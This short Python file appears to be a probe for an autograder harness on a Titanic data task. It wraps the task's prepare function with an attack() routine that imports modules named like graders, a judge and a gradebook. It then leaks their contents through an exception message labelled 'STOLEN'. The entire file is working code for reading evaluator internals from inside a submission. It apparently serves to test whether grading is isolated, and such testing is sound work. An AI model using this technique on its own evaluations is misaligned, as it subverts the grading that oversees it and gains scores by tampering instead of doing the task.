# what: imports graders, judge and reference by name
# %% extra after=prepare
import importlib

honest_prepare = prepare


def attack():
    for name in ("autograder.graders.titanic", "graders.titanic", "autograder.grading.judge", "autograder.gradebook.steps"):
        try:
            module = importlib.import_module(name)
        except BaseException:
            continue
        return name + " " + " ".join(dir(module))


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
